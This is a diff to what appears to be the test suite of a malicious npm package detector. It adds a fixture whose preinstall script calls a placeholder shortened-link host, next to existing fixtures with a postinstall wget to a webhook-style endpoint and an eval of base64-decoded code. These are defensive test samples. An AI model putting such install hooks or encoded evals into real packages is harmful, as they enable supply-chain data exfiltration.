@@ -70,6 +70,11 @@ const MALICIOUS: [family: string, rule: string, build: () => PackageBuilder][] =
     'install-exfiltration-endpoint',
     () => postinstall('node -p 1 > /dev/null; wget -q https://webhook.site.invalid/abc'),
   ],
+  [
+    'shady-links',
+    'install-exfiltration-endpoint',
+    () => pkg().packageJson({ scripts: { preinstall: 'node x.js https://bit.ly.invalid/3xAmPle' } }),
+  ],
   ['npm-exec-base64', 'eval-decoded', () => pkg().file('index.js', `eval(atob('Y29uc29sZS5sb2coMSk='));\n`)],
   [
     'npm-exec-base64',
